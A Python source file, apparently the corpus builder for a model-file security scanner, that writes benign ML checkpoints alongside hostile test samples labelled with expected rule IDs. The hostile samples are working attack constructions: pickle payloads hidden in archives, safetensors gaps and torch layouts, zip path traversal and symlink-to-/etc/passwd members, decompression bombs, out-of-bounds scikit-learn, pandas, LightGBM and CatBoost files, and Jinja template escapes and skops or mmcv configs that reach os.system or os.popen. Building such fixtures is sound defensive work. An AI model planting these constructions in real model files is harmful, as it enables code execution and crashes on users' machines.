        "a header numpy reads as an object dtype ('f8,O'), then a pickle whose first 64 KiB is one integer",
        rules=expect(*rules, "WS-NPY-001"),
    )


def build_hostile_archives(corpus: Corpus, payload: bytes, rules: list[str]) -> None:
    add = corpus.add
    add(
        "hostile/compressed-payload.pkl.gz",
        gz(payload),
        "gzip-wrapped payload pickle",
        rules=expect(*rules, member="compressed-payload.pkl"),
    )
    add(
        "hostile/compressed-payload.pkl.bz2",
        bz2.compress(payload, 9),
        "bz2-wrapped payload pickle",
        rules=expect(*rules, member="compressed-payload.pkl"),
    )
    add(
        "hostile/compressed-payload.pkl.xz",
        lzma.compress(payload, format=lzma.FORMAT_XZ),
        "xz-wrapped payload pickle",
        rules=expect(*rules, member="compressed-payload.pkl"),
    )
    tar = tar_bytes([("model/config.json", b"{}\n"), ("model/payload.pkl", payload)])
    add(
        "hostile/tar-payload.tar", tar, "tar holding a payload pickle", rules=expect(*rules, member="model/payload.pkl")
    )
    add(
        "hostile/tar-payload.tar.gz",
        gz(tar),
        "tar.gz holding a payload pickle",
        rules=expect(*rules, member="tar-payload.tar!model/payload.pkl"),
    )
    add(
        "hostile/sevenzip-payload.7z",
        sevenzip_bytes([("payload.pkl", payload)]),
        "7z holding a payload pickle",
        rules=expect(*rules, member="payload.pkl"),
    )
    layout = [
        ("model/data.pkl", payload),
        ("model/version", b"3\n"),
        ("model/byteorder", b"little"),
        ("model/data/0", bytes(16)),
    ]
    add(
        "hostile/sevenzip-torch-layout.7z",
        sevenzip_bytes(layout),
        "PyTorch checkpoint layout (folder with data.pkl) packed in 7z, data.pkl is a payload",
        rules=expect(*rules, member="model/data.pkl"),
    )
    inner = zip_bytes([("payload.pkl", payload)])
    outer = zip_bytes([("inner.zip", inner)])
    add(
        "hostile/nested-tar-zip-zip.tar",
        tar_bytes([("outer.zip", outer)]),
        "zip inside zip inside tar",
        rules=expect(*rules, member="outer.zip!inner.zip!payload.pkl"),
    )
    storages = (
        pickle.dumps(1, protocol=2)
        + b"\x80\x02X\x01\x00\x00\x000X\x03\x00\x00\x00cpuctorch\nFloatStorage\n\x87."
        + struct.pack("<q", 2)
        + bytes(8)
        + payload
    )
    add(
        "hostile/torch-tar-storages-only.pt",
        tar_bytes([("storages", storages)]),
        "torch.save's oldest (tar) format with only its storages member: torch.load reads a storage record, then "
        "the payload where the storage views pickle goes",
        rules=expect(*rules, member="storages"),
    )
    add(
        "hostile/lzma-then-xz-payload.pkl.xz",
        lzma.compress(b"", format=lzma.FORMAT_ALONE) + lzma.compress(payload, format=lzma.FORMAT_XZ),
        "an empty .lzma stream, then an xz stream holding the payload: lzma.open and joblib read both",
        rules=expect(*rules, member="lzma-then-xz-payload.pkl"),
    )
    add(
        "hostile/zip-path-traversal.zip",
        zip_bytes([("../evil.pkl", payload)]),
        "zip member named ../evil.pkl (extraction escapes the target folder)",
        rules=expect(*rules, "WS-ARC-009"),
    )
    link = zipfile.ZipInfo("model/config.json", FIXED_DATE)
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    add(
        "hostile/zip-symlink-etc-passwd.zip",
        zip_bytes([(link, b"/etc/passwd")]),
        "zip symlink member pointing to /etc/passwd",
        rules=expect("WS-ARC-010"),
    )
    add(
        "hostile/zip-duplicate-names.zip",
        zip_bytes([("data.pkl", pickle.dumps({}, 2)), ("data.pkl", payload)]),
        "two members named data.pkl: a benign one and the payload",
        rules=expect(*rules, "WS-ARC-007"),
    )
    mismatch = zip_bytes([("weights.pkl", payload)])
    local, _ = zip_offsets(mismatch, "weights.pkl")
    add(
        "hostile/zip-name-mismatch.zip",
        patch(mismatch, local + 30, b"payload.pkl"),
        "local header names payload.pkl, central directory names weights.pkl",
        rules=expect(*rules, "WS-ARC-002"),
    )
    crc = zip_bytes([("payload.pkl", payload)])
    local, central = zip_offsets(crc, "payload.pkl")
    bad = struct.pack("<I", (zipfile.crc32(payload) ^ 0xFFFFFFFF) & 0xFFFFFFFF)
    add(
        "hostile/zip-bad-crc.zip",
        patch(patch(crc, local + 14, bad), central + 16, bad),
        "payload member whose CRC-32 does not match",
        rules=expect(*rules, "WS-ARC-018"),
    )
    add(
        "hostile/zip-prepended-bytes.zip",
        b"#!/bin/sh\necho wscan\nexit 0\n" + zip_bytes([("payload.pkl", payload)]),
        "bytes before the first zip header (a polyglot)",
        rules=expect(*rules, "WS-ARC-008"),
    )
    add(
        "hostile/zip-bomb.zip",
        zip_bytes([("zeros.bin", bytes(64 * MIB))], zipfile.ZIP_DEFLATED),
        "decompression bomb: 64 MiB of zeros deflated (ratio ~1000)",
        rules=expect("WS-ARC-014"),
    )
    add(
        "hostile/gzip-bomb.gz",
        gz(bytes(50 * MIB)),
        "decompression bomb: gzip of 50 MiB of zeros",
        rules=expect("WS-ARC-014"),
    )
    nested, name = payload, "payload.pkl"
    for level in range(10, 0, -1):
        nested, name = zip_bytes([(name, nested)]), f"level{level}.zip"
    add(
        "hostile/zip-nested-10-levels.zip",
        nested,
        "zip inside zip, 10 levels deep (beyond the depth budget)",
        rules=expect("WS-FILE-002"),
    )


# --- benign samples (the real libraries) ----------------------------------------------------------


def _dcp_save(folder: Path, blob: bytes) -> None:
    """dcp.save of a small training state (a uint8 tensor holding `blob`, plain values), with the metadata's
    per-save identity (the folder path, a random id) taken out so the files are reproducible."""
    import torch
    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # saving without a process group warns
        state = {"w": torch.frombuffer(bytearray(blob), dtype=torch.uint8).clone(), "extra": {"step": 3}}
        dcp.save(state, checkpoint_id=str(folder))
    metadata = pickle.loads((folder / ".metadata").read_bytes())  # written a moment ago by dcp.save, here
    metadata.storage_meta = None  # dcp.load fills in a fresh one
    (folder / ".metadata").write_bytes(pickle.dumps(metadata))


DCP_WHAT = "torch.distributed.checkpoint folder (dcp.save)"


def build_benign_distributed_checkpoint(corpus: Corpus) -> None:
    benign = corpus.out / "benign/dcp-checkpoint"
    _dcp_save(benign, b"\0" * 64)
    for name in (".metadata", "__0_0.distcp"):
        corpus.record(f"benign/dcp-checkpoint/{name}", DCP_WHAT, made_by="torch.distributed.checkpoint.save")


def build_distributed_checkpoint(corpus: Corpus, payload: bytes, rules: list[str]) -> None:
    """A torch.distributed.checkpoint folder whose `.metadata` points the `step` item (which dcp.load torch.loads
    with weights_only=False) at a pickle inside a tensor's bytes."""
    what = DCP_WHAT
    hostile = corpus.out / "hostile/dcp-item-in-tensor-bytes"
    _dcp_save(hostile, b"\0" * 64 + payload + b"\0" * 64)
    at = (hostile / "__0_0.distcp").read_bytes().index(payload)
    metadata = pickle.loads((hostile / ".metadata").read_bytes())  # this builder's own file
    for index, info in metadata.storage_data.items():
        if index.fqn == "extra.step":
            info.offset, info.length = at, len(payload)
    (hostile / ".metadata").write_bytes(pickle.dumps(metadata))
    corpus.record(
        "hostile/dcp-item-in-tensor-bytes/.metadata",
        f"{what} whose metadata points a non-tensor item at a pickle inside a tensor's bytes",
        rules=expect(*rules, member=f"__0_0.distcp@{at}"),
    )
    corpus.record("hostile/dcp-item-in-tensor-bytes/__0_0.distcp", f"{what}: the items",
                  part_of="hostile/dcp-item-in-tensor-bytes/.metadata")  # fmt: skip


def _scripted_class() -> type:
    import torch

    class TinyScripted(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.weight = torch.nn.Parameter(torch.randn(2, 3))

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.relu(x @ self.weight.t()) * 2

    return TinyScripted


def seed_everything() -> None:
    import numpy as np
    import torch

    random.seed(SEED)
    np.random.seed(SEED)
    torch.manual_seed(SEED)


def build_benign(corpus: Corpus) -> None:
    """Every benign sample, written by the library that normally writes it."""
    build_benign_distributed_checkpoint(corpus)
    build_benign_torch(corpus)
    build_benign_numpy(corpus)
    build_benign_sklearn(corpus)
    build_benign_pickles(corpus)
    build_benign_transformers(corpus)
    build_benign_safetensors(corpus)
    build_benign_repo(corpus)
    build_benign_gguf(corpus)
    build_benign_onnx(corpus)
    build_benign_flax(corpus)
    build_benign_tflite(corpus)
    build_benign_openvino(corpus)
    build_benign_keras_tf(corpus)
    build_benign_configs(corpus)


def build_benign_torch(corpus: Corpus) -> None:
    import torch

    seed_everything()
    state = {
        "fp32": torch.randn(4, 4),
        "fp16": torch.randn(4).half(),
        "bf16": torch.randn(4).bfloat16(),
        "int8": torch.randint(-128, 127, (8,), dtype=torch.int8),
        "quantized": torch.quantize_per_tensor(torch.randn(4), 0.1, 0, torch.quint8),
        "param": torch.nn.Parameter(torch.randn(3)),
    }
    path = corpus.record(
        "benign/torch-state-dict.pt", "torch.save zip: fp32/fp16/bf16/int8, quantized, Parameter", made_by="torch.save"
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save(state, path)

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    optimizer = torch.optim.Adam(model.parameters(), lr=0.01)
    scheduler = torch.optim.lr_scheduler.StepLR(optimizer, step_size=1, gamma=0.5)
    model(torch.randn(2, 4)).sum().backward()
    optimizer.step()
    scheduler.step()
    checkpoint = {
        "epoch": 1,
        "model": model.state_dict(),
        "optimizer": optimizer.state_dict(),
        "scheduler": scheduler.state_dict(),
        "metrics": {"loss": 0.5, "history": [1.0, 0.75, 0.5]},
    }
    torch.save(
        checkpoint,
        corpus.record(
            "benign/torch-training-checkpoint.pt",
            "torch.save zip: nested model + optimizer + scheduler state_dicts",
            made_by="torch.save",
        ),
    )
    legacy = io.BytesIO()
    torch.save(model.state_dict(), legacy, _use_new_zipfile_serialization=False)
    corpus.add(
        "benign/torch-legacy.pt",
        stable_legacy_keys(legacy.getvalue(), 4),
        "legacy torch.save(_use_new_zipfile_serialization=False); storage keys renamed 0, 1, ...",
        made_by="torch.save",
    )
    scripted = torch.jit.script(_scripted_class()())
    torch.jit.save(
        scripted,
        corpus.record("benign/torchscript-module.pt", "torch.jit.save of a scripted module", made_by="torch.jit.save"),
    )


def build_benign_numpy(corpus: Corpus) -> None:
    import joblib
    import numpy as np

    rng = np.random.default_rng(SEED)
    arrays = {"weights": rng.normal(size=(8, 4)).astype(np.float32), "ids": np.arange(10, dtype=np.int64)}
    np.save(
        corpus.record("benign/numpy-array.npy", "np.save of a float32 array", made_by="numpy.save"), arrays["weights"]
    )
    with fixed_zip_clock():
        np.savez(corpus.record("benign/numpy-savez.npz", "np.savez", made_by="numpy.savez"), **arrays)
        np.savez_compressed(
            corpus.record("benign/numpy-savez-compressed.npz", "np.savez_compressed", made_by="numpy.savez_compressed"),
            **arrays,
        )
    data = {"weights": arrays["weights"], "ids": arrays["ids"], "scale": 0.5, "names": ["a", "b"]}
    for suffix, compress in [
        ("", 0),
        ("-zlib3", 3),
        ("-gzip", ("gzip", 3)),
        ("-bz2", ("bz2", 3)),
        ("-xz", ("xz", 3)),
        ("-lzma", ("lzma", 3)),
    ]:
        rel = f"benign/joblib-numpy{suffix}.joblib"
        joblib.dump(
            data,
            corpus.record(rel, f"joblib.dump of numpy data, compress={compress!r}", made_by="joblib.dump"),
            compress=compress,
        )


class _Reduced:
    """Pickles as `func(*args)` with `state`: a model's compiled state with one value changed, never given to a live
    object (scikit-learn would go out of bounds here already)."""

    def __init__(self, func: Any, args: tuple[Any, ...], state: Any) -> None:
        self.func, self.args, self.state = func, args, state

    def __reduce__(self) -> tuple[Any, ...]:
        return self.func, self.args, self.state


def build_hostile_sklearn_native(corpus: Corpus) -> None:
    """Real scikit-learn models with one index changed, which their compiled predict follows out of bounds."""
    import joblib
    import numpy as np
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(SEED)
    x = rng.normal(size=(30, 3))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    knn = KNeighborsClassifier(3, algorithm="kd_tree", leaf_size=5).fit(x, y)
    func, args, state = knn._tree.__reduce__()
    knn.__dict__["_tree"] = _Reduced(func, args, (state[0], np.full_like(state[1], 2**40), *state[2:]))
    corpus.add(
        "hostile/sklearn-knn-index-past-the-rows.pkl",
        pickle.dumps(knn, protocol=4),
        "a scikit-learn KNN whose KDTree row indices point past its data: predict crashes (SIGSEGV)",
        rules=expect("WS-PKL-059"),
    )
    tree = DecisionTreeClassifier(max_depth=3, random_state=SEED).fit(x, y)
    cls, tree_args, tree_state = tree.tree_.__reduce__()
    real = tree_state["nodes"]
    nodes = np.zeros(len(real), dtype=real.dtype)  # field by field: a copy would keep the C struct's padding bytes
    for name in real.dtype.names:
        nodes[name] = real[name]
    nodes["feature"][0] = 10**9
    tree.__dict__["tree_"] = _Reduced(cls, tree_args, dict(tree_state, nodes=nodes))
    buffer = io.BytesIO()
    joblib.dump(tree, buffer)
    corpus.add(
        "hostile/sklearn-tree-feature-far.joblib",
        buffer.getvalue(),
        "a scikit-learn decision tree whose root splits on feature 10**9: predict reads far past X (SIGSEGV)",
        rules=expect("WS-PKL-059"),
    )


# A LightGBM model as model_to_string writes one, by hand (the library's own text differs between versions): two
# trees of one split each.
LIGHTGBM_TREE = (
    "Tree={n}\nnum_leaves=2\nnum_cat=0\nsplit_feature=0\nsplit_gain=1\nthreshold=0.5\ndecision_type=2\n"
    "left_child=-1\nright_child=-2\nleaf_value=-1 1\nleaf_weight=1 1\nleaf_count=1 1\ninternal_value=0\n"
    "internal_weight=2\ninternal_count=2\nis_linear=0\nshrinkage=1\n\n\n"
)


def lightgbm_model(first_tree_size: int | None = None) -> str:
    trees = [LIGHTGBM_TREE.format(n=n) for n in range(2)]
    sizes = [first_tree_size or len(trees[0]), len(trees[1])]
    return (
        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\n"
        f"objective=regression\nfeature_names=x\nfeature_infos=[0:1]\ntree_sizes={sizes[0]} {sizes[1]}\n\n"
        + "".join(trees)
        + "end of trees\n\nfeature_importances:\nx=2\n\nparameters:\n[boosting: gbdt]\nend of parameters\n\n"
        "pandas_categorical:null\n"
    )


@dataclass
class FlatTable:
    """A flatbuffer table for `flatbuffer`: slot -> an int (4 bytes), bytes (a vector of them, `width` bytes an
    element, aligned to `width`), a FlatTable, or a list of FlatTables."""

    fields: dict[int, object]
    width: dict[int, int] = field(default_factory=dict)


def flatbuffer(root: FlatTable) -> bytes:
    """The bytes of a flatbuffer rooted at `root`, laid out front to back (every offset points forward), each
    vector's elements aligned as a verifier checks them. Only what the hostile CatBoost model needs."""
    buf = bytearray(4)

    def pad(to: int, before: int = 0) -> None:
        while (len(buf) + before) % to:
            buf.append(0)

    def table(node: FlatTable) -> int:
        slots = max(node.fields) + 1
        pad(2)
        vtable = len(buf)
        order = sorted(node.fields)  # each field 4 bytes after the table's soffset, in slot order
        where = [4 + 4 * order.index(s) if s in node.fields else 0 for s in range(slots)]
        buf.extend(struct.pack(f"<HH{slots}H", 4 + 2 * slots, 4 + 4 * len(order), *where))
        pad(4)
        at = len(buf)
        buf.extend(struct.pack("<i", at - vtable))
        refs = []
        for slot in sorted(node.fields):
            value = node.fields[slot]
            refs.append((len(buf), value, node.width.get(slot, 1)))
            buf.extend(struct.pack("<i", value) if isinstance(value, int) else bytes(4))
        for where, value, width in refs:
            if not isinstance(value, int):
                struct.pack_into("<I", buf, where, place(value, width) - where)
        return at

    def place(value: object, width: int) -> int:
        if isinstance(value, FlatTable):
            return table(value)
        if isinstance(value, list):
            pad(4)
            at = len(buf)
            buf.extend(bytes(4 + 4 * len(value)))
            struct.pack_into("<I", buf, at, len(value))
            for number, item in enumerate(value):
                where = at + 4 + 4 * number
                struct.pack_into("<I", buf, where, table(item) - where)
            return at
        assert isinstance(value, bytes)
        pad(max(width, 4), before=4)
        at = len(buf)
        buf.extend(struct.pack("<I", len(value) // width) + value + b"\0")
        return at

    struct.pack_into("<I", buf, 0, table(root))
    pad(8)
    return bytes(buf)


def catboost_model(first_split: int) -> bytes:
    """A CatBoost model (`save_model`'s CBM1 layout): one float feature with one border, so one binary feature, and
    one tree of depth 1 whose split is `first_split`."""
    feature = FlatTable({1: 0, 2: 0, 3: struct.pack("<f", 0.5)}, {3: 4})  # Index, FlatIndex, Borders
    trees = FlatTable(
        {0: 1, 1: struct.pack("<i", first_split), 2: struct.pack("<i", 1), 3: struct.pack("<i", 0), 5: [feature],
         8: struct.pack("<2d", -1.0, 1.0)},  # ApproxDimension, TreeSplits, TreeSizes, TreeStartOffsets,
        {1: 4, 2: 4, 3: 4, 8: 8},  # FloatFeatures, LeafValues
    )  # fmt: skip
    core = flatbuffer(FlatTable({0: b"FlabuffersModel_v1", 1: trees}))  # FormatVersion, ModelTrees
    return b"CBM1" + struct.pack("<I", len(core)) + core


def build_hostile_boosters(corpus: Corpus) -> None:
    """A LightGBM Booster whose model text leads LightGBM's C loader past the text while unpickling."""
    from lightgbm.basic import Booster

    state = {"_handle": lightgbm_model(first_tree_size=99_999_999), "best_iteration": 0, "pandas_categorical": None}
    booster = Booster.__new__(Booster)  # never given the model: its __setstate__ would go past the text here
    booster._handle = None  # what its __del__ frees
    booster.__getstate__ = lambda: state  # type: ignore[method-assign]  # pickled as it stands
    corpus.add(
        "hostile/lightgbm-tree-sizes-past-the-text.pkl",
        pickle.dumps(booster, protocol=4),
        "a LightGBM Booster whose tree_sizes send the C loader 100 MB past the model text: pickle.load crashes",
        rules=expect("WS-PKL-060"),
    )
    corpus.add(
        "hostile/catboost-split-past-the-features.cbm",
        catboost_model(first_split=0x7FFFFFFF),
        "a CatBoost model whose tree splits on binary feature 2**31-1 of 1: CatBoost's load_model reads that far "
        "past its features and crashes",
        rules=expect("WS-FILE-018"),
    )


def build_hostile_openmmlab(corpus: Corpus) -> None:
    """An OpenMMLab checkpoint of plain dicts, strings and tensors whose meta config is Python that runs a command."""
    import torch

    config = "import os\nos.system('touch /tmp/wscan-corpus-resumed')\ngpu_ids = [0]\n"
    meta = {"mmcv_version": "1.7.2", "time": "Mon Dec  7 00:00:00 2026", "CLASSES": ("person", "car"),
            "config": config, "epoch": 12, "iter": 87960}  # fmt: skip
    buf = io.BytesIO()
    torch.save({"meta": meta, "state_dict": {"fc.weight": torch.zeros(2, 4), "fc.bias": torch.zeros(2)}}, buf)
    corpus.add(
        "hostile/openmmlab-config-runs-on-resume.pth",
        buf.getvalue(),
        "an mmcv-style checkpoint that torch's weights_only loader accepts, whose meta['config'] mmcv and mmengine "
        "run as Python when training resumes from it",
        rules=expect("WS-PKL-061"),
    )


def build_hostile_array_interface(corpus: Corpus) -> None:
    """numpy.poly1d, an allowed class, given a SimpleNamespace whose state is an array interface at an address the file
    chooses: loading copies 16 bytes from there (a crash here; with a real address, the process's memory)."""
    import numpy as np

    interface = {"shape": (16,), "typestr": "|u1", "data": (0x4141414141, False), "version": 3}
    namespace = types.SimpleNamespace(__array_interface__=interface)
    corpus.add(
        "hostile/numpy-array-interface-reads-memory.pkl",
        pickle.dumps({"coefficients": _Reduce(np.poly1d, (namespace,))}, protocol=4),
        "numpy.poly1d called on an object whose pickled state gives it an __array_interface__: NumPy reads the "
        "coefficients from a raw memory address the file chose while the pickle loads",
        rules=expect("WS-PKL-062"),
    )


def build_hostile_pandas_blocks(corpus: Corpus) -> None:
    """A DataFrame's block manager in the state pandas 1 wrote, whose one block names column 10^9 of two: pandas
    rebuilds its column table from that while pickle.load runs, writing out of bounds (a crash here)."""
    import copyreg

    import numpy as np
    import pandas as pd
    from pandas.core.internals.managers import BlockManager

    axes = [["a", "b"], [0, 1, 2, 3]]  # pandas makes an index of each list
    values = np.arange(8.0).reshape(2, 4)
    blocks = [{"values": values, "mgr_locs": np.array([0, 10**9], dtype=np.intp)}]
    state = (axes, [values], [axes[0]], {"0.14.1": {"axes": axes, "blocks": blocks}})

    manager = pd.DataFrame(values.T, columns=axes[0])._mgr  # pickled with the state above, never as itself

    class Pickler(pickle.Pickler):
        def reducer_override(self, obj: Any) -> Any:
            if obj is manager:
                return copyreg.__newobj__, (BlockManager,), state  # type: ignore[attr-defined]
            return NotImplemented

    buffer = io.BytesIO()
    Pickler(buffer, protocol=4).dump({"frame": manager})
    corpus.add(
        "hostile/pandas-block-out-of-bounds.pkl",
        buffer.getvalue(),
        "a pandas block manager whose block names column 10^9 of a two-column frame: pandas' compiled code writes "
        "its column table out of bounds while the pickle loads",
        rules=expect("WS-PKL-059"),
    )


def build_hostile_skops(corpus: Corpus, p: Payload) -> None:
    """A skops file whose dict names os.system as the type of its key: skops.io.load, trusting what
    get_untrusted_types lists (as skops' documentation shows), calls it on the key, the command."""
    str_type = {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode"}
    system = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}
    value = {"__class__": "int", "__module__": "builtins", "__loader__": "JsonNode", "content": "1", "is_json": True}
    schema = {
        "__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
        "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
                      "content": [str_type, system]},
        "content": {"n_features": value, p.cmd: value}, "protocol": 2, "_skops_version": "0.16.0",
    }
    with fixed_zip_clock():
        data = zip_bytes([("schema.json", json.dumps(schema, indent=2).encode())], zipfile.ZIP_DEFLATED)
    corpus.add(
        "hostile/skops-key-type-runs-command.skops",
        data,
        "a skops file whose dict gives os.system as its second key's type: skops.io.load calls it on the key",
        rules=expect("WS-PKL-001"),
    )


def build_benign_sklearn(corpus: Corpus) -> None:
    import joblib
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(SEED)
    x = rng.normal(size=(30, 3))
    y = (x[:, 0] + x[:, 1] > 0).astype(int)
    pipeline = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(x, y)
    joblib.dump(
        pipeline,
        corpus.record(
            "benign/sklearn-pipeline.joblib",
            "scikit-learn Pipeline(StandardScaler, LogisticRegression) via joblib",
            made_by="joblib.dump",
        ),
    )
    corpus.add(
        "benign/sklearn-pipeline.pkl",
        pickle.dumps(pipeline, protocol=pickle.DEFAULT_PROTOCOL),
        "the same pipeline via pickle.dumps",
        made_by="pickle.dumps",
    )
    forest = RandomForestClassifier(n_estimators=3, max_depth=3, random_state=SEED).fit(x, y)
    import skops.io

    with fixed_zip_clock():
        skops.io.dump(
            pipeline,
            corpus.record(
                "benign/sklearn-pipeline.skops",
                "the same pipeline via skops.io.dump (its schema.json, arrays as .npy members)",
                made_by="skops.io.dump",
            ),
        )
    joblib.dump(
        forest,
        corpus.record(
            "benign/sklearn-random-forest.joblib",
            "scikit-learn RandomForestClassifier via joblib",
            made_by="joblib.dump",
        ),
    )


def build_benign_pickles(corpus: Corpus) -> None:
    data = {
        "list": [1, 2, 3],
        "tuple": (1.5, "x", None, True),
        "set": {1, 2, 3},
        "frozenset": frozenset({4, 5}),
        "str": "text é",
        "bytes": b"\x00\x01\xff",
        "bytearray": bytearray(b"ab"),
        "float": 1.25,
        "int": 2**70,
        "negative": -7,
        "ordered": OrderedDict([("b", 1), ("a", 2)]),
        "nested": {"a": [{"b": (1, 2)}]},
    }
    for proto in range(6):
        rel = f"benign/plain-pickle-protocol{proto}.pkl"
        corpus.add(
            rel,
            pickle.dumps(data, protocol=proto),
            f"pickle.dumps of plain data, protocol {proto}",
            made_by="pickle.dumps",
        )


def build_benign_transformers(corpus: Corpus) -> None:
    import numpy as np
    import torch
    from transformers import BertConfig, BertModel, TrainingArguments, get_linear_schedule_with_warmup

    seed_everything()
    config = BertConfig(
        vocab_size=50,
        hidden_size=8,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=16,
        max_position_embeddings=16,
    )
    model = BertModel(config)
    folder = corpus.out / "benign/bert-tiny"
    model.save_pretrained(folder, safe_serialization=False)
    for child in sorted(folder.iterdir()):
        corpus.record(
            f"benign/bert-tiny/{child.name}",
            "transformers save_pretrained(safe_serialization=False)",
            made_by="transformers.PreTrainedModel.save_pretrained",
        )

    ckpt = corpus.out / "benign/checkpoint-1"
    ckpt.mkdir(parents=True, exist_ok=True)
    args = TrainingArguments(output_dir="checkpoint-out", report_to=[], logging_dir="checkpoint-out/runs", seed=SEED)
    optimizer = torch.optim.AdamW(model.parameters(), lr=1e-3)
    scheduler = get_linear_schedule_with_warmup(optimizer, num_warmup_steps=1, num_training_steps=10)
    out = model(input_ids=torch.tensor([[1, 2, 3]]))
    out.last_hidden_state.sum().backward()
    optimizer.step()
    scheduler.step()
    what = "Trainer checkpoint folder (files as transformers.Trainer writes them)"
    torch.save(
        args,
        corpus.record(
            "benign/checkpoint-1/training_args.bin",
            f"{what}: TrainingArguments",
            made_by="torch.save(TrainingArguments)",
        ),
    )
    torch.save(
        optimizer.state_dict(),
        corpus.record("benign/checkpoint-1/optimizer.pt", f"{what}: AdamW state", made_by="torch.save"),
    )
    torch.save(
        scheduler.state_dict(),
        corpus.record("benign/checkpoint-1/scheduler.pt", f"{what}: LambdaLR state", made_by="torch.save"),
    )
    rng_states = {"python": random.getstate(), "numpy": np.random.get_state(), "cpu": torch.random.get_rng_state()}
    torch.save(
        rng_states, corpus.record("benign/checkpoint-1/rng_state.pth", f"{what}: RNG states", made_by="torch.save")
    )


# --- safetensors and model repositories -----------------------------------------------------------

# A chat template exactly as real ChatML models ship it (Qwen1.5 / OpenHermes).
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>'"
    " + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
# The llama-cpp-python CVE-2024-34359 shape: from a template global to os.popen.
TEMPLATE_ESCAPE = "{{ cycler.__init__.__globals__.os.popen('echo wscan-corpus-hostile-sample').read() }}"
TEMPLATE_BUILT_KEYS = ("{%- set u = '%c'|format(95) -%}{%- set k = u ~ u ~ 'init' ~ u ~ u ~ '.' ~ u ~ u ~ 'globals'"
                       " ~ u ~ u ~ '.os.popen' -%}{{ ([namespace]|map(attribute=k)|first)("
                       "'echo wscan-corpus-hostile-sample').read() }}")


def st_tensor(dtype: str, shape: list[int], begin: int, end: int) -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


def safetensors_bytes(header: dict[str, Any] | bytes, data: bytes = b"") -> bytes:
    """A safetensors file from a header (dict, or raw JSON bytes for broken ones) and its data buffer."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def build_hostile_safetensors(corpus: Corpus, payload: bytes, rules: list[str]) -> None:
    f32x2 = st_tensor("F32", [2], 0, 8)
    zeros = b"\0" * 8
    cases: list[tuple[str, bytes, str, list[Expect]]] = [
        ("header-length-past-eof", struct.pack("<Q", 1 << 40) + b'{"a":1}', "header length beyond the file",
         expect("WS-ST-001")),
        ("header-duplicate-key", safetensors_bytes(b'{"a":' + json.dumps(f32x2).encode() + b',"a":'
                                                   + json.dumps(st_tensor("F32", [1], 0, 4)).encode() + b"}", zeros),
         "duplicate tensor name: loaders and scanners can see different tensors", expect("WS-ST-003")),
        ("metadata-not-strings", safetensors_bytes({"__metadata__": {"format": {"nested": 1}}, "a": f32x2}, zeros),
         "__metadata__ value that is not a string", expect("WS-ST-004")),
        ("unknown-dtype", safetensors_bytes({"a": st_tensor("F33", [2], 0, 8)}, zeros), "dtype no loader knows",
         expect("WS-ST-006")),
        ("shape-overflow", safetensors_bytes({"a": st_tensor("U8", [1 << 32, 1 << 32, 1 << 32], 0, 8)}, zeros),
         "shape whose element count overflows 64 bits", expect("WS-ST-007")),
        ("offsets-reversed", safetensors_bytes({"a": st_tensor("F32", [2], 8, 0)}, zeros), "end before begin",
         expect("WS-ST-008")),
        ("offsets-out-of-bounds", safetensors_bytes({"a": st_tensor("F32", [2], 0, 8)}, b"\0" * 4),
         "tensor data past the end of the file", expect("WS-ST-009")),
        ("size-mismatch", safetensors_bytes({"a": st_tensor("F32", [3], 0, 8)}, zeros),
         "byte range shorter than numel x itemsize", expect("WS-ST-010")),
        ("overlapping-tensors", safetensors_bytes({"a": f32x2, "b": st_tensor("F32", [1], 4, 8)}, zeros),
         "two tensors share bytes", expect("WS-ST-011")),
        ("pickle-in-gap", safetensors_bytes({"a": st_tensor("U8", [4], 0, 4),
                                             "b": st_tensor("U8", [4], 4 + len(payload), 8 + len(payload))},
                                            b"\0" * 4 + payload + b"\0" * 4),
         "a pickle hidden between two tensors", expect("WS-ST-012") + expect(*rules)),
        ("pickle-after-tensors", safetensors_bytes({"a": f32x2}, zeros + payload),
         "a pickle appended after the last tensor", expect("WS-ST-013") + expect(*rules)),
    ]
    for name, data, technique, expected in cases:
        corpus.add(f"hostile/safetensors-{name}.safetensors", data, f"safetensors: {technique}", rules=expected)
    # A pickle named .safetensors: the name promises safety, the bytes are a pickle.
    corpus.add("hostile/pickle-named-model.safetensors", payload, "pickle saved under a .safetensors name",
               rules=expect(*rules))


def _shard_folder(corpus: Corpus, folder: str, technique: str, rules: list[Expect], weight_map: dict[str, str],
                  shards: dict[str, dict[str, int]], total_size: int | None = None) -> None:
    import numpy as np
    from safetensors.numpy import save

    for name, tensors in shards.items():
        data = save({t: np.arange(n, dtype=np.float32) for t, n in tensors.items()})
        corpus.add(f"{folder}/{name}", data, f"{technique}: a well-formed shard", made_by="safetensors.numpy.save",
                   part_of=f"{folder}/model.safetensors.index.json")
    total = total_size if total_size is not None else 4 * sum(n for t in shards.values() for n in t.values())
    index = {"metadata": {"total_size": total}, "weight_map": weight_map}
    corpus.add(f"{folder}/model.safetensors.index.json", json.dumps(index, indent=2).encode(), technique,
